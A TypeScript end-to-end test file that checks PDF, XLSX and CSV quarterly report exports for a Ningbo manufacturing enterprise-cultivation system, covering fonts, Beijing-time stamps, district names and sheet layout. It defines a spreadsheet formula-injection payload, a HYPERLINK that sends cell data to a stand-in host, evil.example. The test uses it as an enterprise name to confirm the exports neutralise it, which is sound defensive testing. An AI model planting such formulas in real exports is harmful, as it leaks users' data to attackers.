import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';

import { StartupService } from '../../apps/api/src/startup.service';
import { withCheckCharacter } from '@app/registry';
import { binary } from '../setup/binary';
import { CultivationWorld } from '../setup/cultivation-world';
import { createTestApp, TEST_PASSWORD, TestApp } from '../setup/test-app';

// The npm font, found here without the code under test: the package's JS entry sits in dist/, its fonts in fonts/.
const NPM_FONTS = join(dirname(require.resolve('@embedpdf/fonts-sc')), '..', 'fonts');
const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击")';

/** A valid credit code of digits only (a quarter of real codes are), as Excel turns into 9.13303E+17. */
function digitsOnlyCode(): string {
  for (let i = Date.now() % 1_000_000; ; i++) {
    const code = withCheckCharacter(`91330211${String(i).padStart(9, '0')}`);
    if (/^\d{18}$/.test(code)) return code;
  }
}

/** What a Ningbo reader's clock showed: UTC + 8 h (China has no daylight saving). */
function beijing(iso: string): string {
  return new Date(Date.parse(iso) + 8 * 3600_000).toISOString().slice(0, 16).replace('T', ' ') + '(北京时间)';
}

describe('quarterly report files a leader can hand over', () => {
  let t: TestApp;
  let staff: Record<string, string>;
  let officer: Record<string, string>;
  let frozenAt: string;
  let evilCode: string;
  const dir = mkdtempSync(join(tmpdir(), 'cr-report-files-'));
  const districts: { code: string; name: string }[] = [];

  const user = async (username: string, body: Record<string, unknown>) => {
    await t.http.post('/api/v1/users').set(await t.as('ADMIN')).send({ username, password: TEST_PASSWORD, ...body }).expect(201);
    return { Authorization: `Bearer ${await t.login(username, TEST_PASSWORD)}` };
  };
  const download = async (headers: Record<string, string>, format: string) =>
    (await t.http.get(`/api/v1/reports/quarterly/2022/2?format=${format}`).set(headers).buffer(true).parse(binary as never).expect(200)).body as Buffer;
  const pdfText = (file: string, page?: number) =>
    execFileSync('pdftotext', [...(page ? ['-f', String(page), '-l', String(page)] : []), '-layout', file, '-']).toString('utf8');

  beforeAll(async () => {
    // The npm font, named explicitly: nothing may come from a system CJK font (CI no longer installs one).
    t = await createTestApp({ REPORT_CJK_FONT: join(NPM_FONTS, 'NotoSansHans-Regular.otf'), REPORT_CJK_FONT_BOLD: join(NPM_FONTS, 'NotoSansHans-Bold.otf') });
    // These tests exercise manual reports on DIGITAL_TRANSFORMATION_PROJECTS as it was seeded before it became a
    // computed project line (issue 15): a plan where staff keep it manual. Project lines are tested in projects.e2e-spec.
    await t.sql(`UPDATE quota_line SET measure_kind = 'MANUAL', measure_params = '{}' WHERE code = 'DIGITAL_TRANSFORMATION_PROJECTS'`);
    staff = await user('wangxm', { role: 'BUREAU_STAFF', displayName: '王晓明' });
    officer = await user('lina', { role: 'DISTRICT_STAFF', displayName: '李娜', districtCodes: ['330211', '330206'] });
    const world = new CultivationWorld(t, staff);
    const [chain] = await world.chainIds();
    evilCode = digitsOnlyCode();
    const evil = await world.enterprise({ creditCode: evilCode, name: EVIL, districtCode: '330211' });
    const beilun = await world.enterprise({ districtCode: '330206' });
    await world.designation({ enterpriseId: evil, type: 'CHAIN_LEADER', level: 'MUNICIPAL', chainId: chain, events: [{ to: 'RECOGNISED', on: '2022-02-10' }] });
    await world.designation({ enterpriseId: beilun, type: 'CHAIN_LEADER', level: 'MUNICIPAL', chainId: chain, events: [{ to: 'RECOGNISED', on: '2022-03-10' }] });
    // One firm below 1万元 tax per mu at the end of 2021 and still in 2022: one left to clear.
    const low = await world.enterprise({ districtCode: '330206', landAreaMu: 100 });
    await world.figures(low, 2021, { taxPaidYuan: 200000 });
    await world.figures(low, 2022, { taxPaidYuan: 300000 });

    const all = (await t.http.get('/api/v1/districts').set(staff).expect(200)).body as { code: string; name: string }[];
    districts.push(...all.filter((d) => /^3302\d\d$/.test(d.code) && d.code !== '330200'));
    const plan = (await t.http.get('/api/v1/quota-plans/2022').set(staff).expect(200)).body as { lines: { code: string; version: number }[] };
    // Enough district rows (5 lines × every district) that the split table runs onto another page.
    for (const code of ['CHAIN_LEADERS', 'CHAIN_CORES', 'CHAIN_BASES', 'NEW_LITTLE_GIANTS', 'SMART_FACTORIES']) {
      const line = plan.lines.find((l) => l.code === code)!;
      await t.http.patch(`/api/v1/quota-plans/2022/lines/${code}`).set(staff).send({ version: line.version, splits: districts.map((d) => ({ districtCode: d.code, target: 10 })) }).expect(200);
    }
    const report = (code: string, value: number, evidence: string) =>
      t.http.post(`/api/v1/quota-plans/2022/lines/${code}/reports`).set(staff).send({ value, reportedOn: '2022-06-20', evidence }).expect(201);
    await report('DIGITAL_TRANSFORMATION_PROJECTS', 436, '各区县上报数字化改造项目清单汇总');
    // Nine provincial featured apps of the industry brains recognised in 2022: 9 of 3, 300 %.
    for (let i = 1; i <= 9; i++) {
      const app = await world.carrier({ kind: 'INDUSTRY_BRAIN_APP', name: `特色应用${i}`, districtCode: '330206' });
      await world.carrierDesignation({ carrierId: app, type: 'INDUSTRY_BRAIN_APP', level: 'PROVINCIAL', events: [{ to: 'RECOGNISED', on: '2022-05-20' }] });
    }
    // A manual line nobody reported (the plan's platform line is now counted from recognitions).
    await t.http
      .post('/api/v1/quota-plans/2022/lines')
      .set(staff)
      .send({ code: 'PLATFORM_SERVICE_PROVIDERS', label: '培育工业互联网平台服务商', unit: '个', group: '数字化', target: 10, measureKind: 'MANUAL', measureParams: {} })
      .expect(201);
    await report('INDUSTRIAL_INVESTMENT_GROWTH', 12, '市统计局工业投资快报'); // +12 % of a +30 % target: 40 % complete
    frozenAt = (await t.http.post('/api/v1/quota-plans/2022/quarters/2/snapshot').set(staff).expect(201)).body.frozenAt;
  });
  afterAll(() => t.close());

  it('renders the PDF with the npm font only, in words a leader reads', async () => {
    const file = join(dir, 'city.pdf');
    writeFileSync(file, await download(staff, 'pdf'));
    // Every font is embedded, and every one is the npm Noto Sans SC (regular for text, bold for headings).
    const fonts = execFileSync('pdffonts', [file]).toString('utf8').split('\n').slice(2).filter(Boolean);
    expect(fonts.map((f) => f.split(/\s+/)[0].replace(/^[A-Z]{6}\+/, '')).sort()).toEqual(['NotoSansHans-Bold', 'NotoSansHans-Regular']);
    expect(fonts.every((f) => / yes +yes +yes /.test(f))).toBe(true);

    const text = pdfText(file);
    // A citation, not the workshop's file paths.
    expect(text).toContain('宁波日报,2022-04-21,《我市召开打造"全球智造创新之都"推进大会》');
    for (const internal of ['../', 'shared/reference', '.txt', 'domain.md']) expect(text).not.toContain(internal);
    // Who froze it by name, when in Beijing time.
    expect(text).toContain('冻结人:王晓明');
    expect(text).toContain(`冻结时间:${beijing(frozenAt)}`);
    expect(text).not.toContain('wangxm');
    expect(text).not.toContain(frozenAt);
    // 应达 in whole firms: 10 × 181/365 of the year = 4.96 → 5 firms.
    expect(text).toMatch(new RegExp(`培育链主企业\\(家\\)\\s+10\\s+${Math.ceil((10 * 181) / 365)}\\s+2\\s+20%\\s+进度滞后`));
    // Unreported manual lines read 未填报; reported ones show their evidence.
    expect(text).toMatch(/培育工业互联网平台服务商\(个\)\s+10\s+5\s+—\s+未填报/);
    expect(text).toContain('佐证:各区县上报数字化改造项目清单汇总');
    // A growth line's bar is a completion rate; a drive-to-zero line says what is left.
    expect(text).toContain('完成率 40%(增速 12%)');
    expect(text).toContain('距清零尚余 1 家');
    // 300 % stretches its chart's axis past 120 % (to 400 %), and the colour key is printed.
    expect(text).toContain('400%');
    expect(text).toMatch(/已完成\s+进度正常\s+进度滞后\s+无目标\s+未填报\s+.*应达/);
    // Splits by district name, never by code.
    for (const d of districts) expect(text).toContain(d.name);
    expect(text).not.toMatch(/\b3302\d\d\b/);

    // The split table continues on a later page with its caption and header row repeated.
    execFileSync('pdftoppm', ['-png', '-r', '60', file, join(dir, 'city')]);
    const pages = readdirSync(dir).filter((f) => f.startsWith('city-') && f.endsWith('.png')).sort();
    const continued = pages.findIndex((_, i) => pdfText(file, i + 1).includes('按区县(续)')) + 1;
    expect(continued).toBeGreaterThan(1);
    expect(pdfText(file, continued)).toMatch(/指标\(单位\)\s+区县\s+目标\s+应达\s+完成\s+完成率\s+状态/);
    for (const page of [pages[0], pages[continued - 1]]) expect(statSync(join(dir, page)).size).toBeGreaterThan(15_000);
  });

  it('names the districts a district officer’s PDF covers', async () => {
    const file = join(dir, 'district.pdf');
    writeFileSync(file, await download(officer, 'pdf'));
    const text = pdfText(file);
    expect(text).toContain('区县视图:北仑区、镇海区');
    expect(text).not.toContain('海曙区');
  });

  it('writes an XLSX with Chinese sheet names, widths, a title, frozen headers and A4 landscape print setup', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download(staff, 'xlsx')) as never);
    const names = workbook.worksheets.map((w) => w.name);
    expect(names.slice(0, 3)).toEqual(['汇总', '分解', '培育链主企业']);
    expect(names).toContain('新增市级以上未来工厂、智能工厂、数字化车间');
    expect(names).toHaveLength(2 + 26 + 1); // the plan's 26 lines and the test's manual one
    expect(new Set(names.map((n) => n.toLowerCase())).size).toBe(names.length);
    expect(names.every((n) => n.length <= 31 && !/[A-Z_]{4}/.test(n))).toBe(true);

    const summary = workbook.getWorksheet('汇总')!;
    expect(String(summary.getCell('A1').value)).toContain('2022年宁波市制造业高质量发展(企业培育)目标任务');
    expect(String(summary.getCell('A2').value)).toContain(`冻结人:王晓明    冻结时间:${beijing(frozenAt)}`);
    expect(summary.getRow(3).values).toEqual(expect.arrayContaining(['指标', '应达值', '进度状态']));
    expect(summary.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(summary.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0 });
    expect(summary.getColumn(2).width).toBe(36);
    const platform = summary.getRows(4, summary.rowCount - 3)!.find((r) => r.getCell(2).value === '培育工业互联网平台服务商')!;
    expect(platform.getCell(8).value).toBe('未填报');

    const leaders = workbook.getWorksheet('培育链主企业')!;
    expect(leaders.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
    expect(leaders.pageSetup).toMatchObject({ orientation: 'landscape', fitToWidth: 1 });
    expect(leaders.getColumn(1).width).toBe(22);
    const evilRow = leaders.getRows(3, leaders.rowCount - 2)!.find((r) => r.getCell(1).value === evilCode)!;
    // The name is text that cannot run, the level and district are in Chinese.
    expect(evilRow.getCell(2).value).toBe(`'${EVIL}`);
    expect(evilRow.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(evilRow.getCell(3).value).toBe('镇海区');
    expect(evilRow.getCell(4).value).toBe('市级 认定于 2022-02-10');
  });

  it('writes a CSV whose credit codes and names Excel cannot turn into numbers or formulas, and points to the XLSX', async () => {
    const res = await t.http.get('/api/v1/reports/quarterly/2022/2?format=csv').set(staff).buffer(true).parse(binary as never).expect(200);
    expect(res.headers.link).toMatch(/format=xlsx>; rel="alternate"/);
    const rows = parse((res.body as Buffer).toString('utf8').slice(1), { columns: true }) as Record<string, string>[];
    const listed = rows.find((r) => r['指标代码'] === 'CHAIN_LEADERS' && r['范围'] === '企业明细' && r['企业名称'].includes('HYPERLINK'))!;
    expect(listed).toMatchObject({ 统一社会信用代码: `'${evilCode}`, 企业名称: `'${EVIL}`, 区县: '镇海区', 说明: '市级 认定于 2022-02-10' });
    expect(rows.find((r) => r['指标代码'] === 'PLATFORM_SERVICE_PROVIDERS' && r['范围'] === '全市')).toMatchObject({ 完成值: '', 进度状态: '未填报' });
  });

  it('gives a plan seeded with the earlier basis note the citation at the next start, and leaves a basis staff wrote', async () => {
    const basis = async () => (await t.http.get('/api/v1/quota-plans/2022').set(staff).expect(200)).body.sourceDocument as string;
    await t.sql(`UPDATE quota_plan SET source_document = $1 WHERE year = 2022`, ['宁波日报 2022 年报道(../shared/reference/000_8277a98312015c79.txt,domain.md §1)']);
    await t.app.get(StartupService).prepare({ demo: false });
    expect(await basis()).toBe('宁波日报,2022-04-21,《我市召开打造"全球智造创新之都"推进大会》');
    await t.sql(`UPDATE quota_plan SET source_document = $1 WHERE year = 2022`, ['甬政办发〔2022〕12号']);
    await t.app.get(StartupService).prepare({ demo: false });
    expect(await basis()).toBe('甬政办发〔2022〕12号');
  });

  it('answers a JSON error, not a PDF attachment, when the font cannot be opened, and says so in /health/ready', async () => {
    const saved = process.env.REPORT_CJK_FONT;
    const broken = join(dir, 'broken.ttf');
    writeFileSync(broken, 'not a font');
    try {
      for (const path of [join(dir, 'missing.otf'), broken]) {
        process.env.REPORT_CJK_FONT = path;
        const res = await t.http.get('/api/v1/reports/quarterly/2022/2?format=pdf').set(staff).expect(503);
        expect(res.headers['content-disposition']).toBeUndefined();
        expect(res.headers['content-type']).toMatch(/application\/json/);
        expect(res.body.code).toBe('REPORT_FONT_UNAVAILABLE');
        expect(res.body.message).toContain(path);
        const ready = await t.http.get('/health/ready').expect(200);
        expect(ready.body).toMatchObject({ status: 'degraded', checks: { database: 'ok', reportFont: { status: 'error' } } });
        expect(ready.body.checks.reportFont.message).toContain(path);
        // The other formats do not need the font.
        await t.http.get('/api/v1/reports/quarterly/2022/2?format=xlsx').set(staff).expect(200);
      }
    } finally {
      if (saved === undefined) delete process.env.REPORT_CJK_FONT;
      else process.env.REPORT_CJK_FONT = saved;
    }
    expect((await t.http.get('/health/ready').expect(200)).body).toMatchObject({ status: 'ok', checks: { reportFont: { status: 'ok' } } });
  });
});
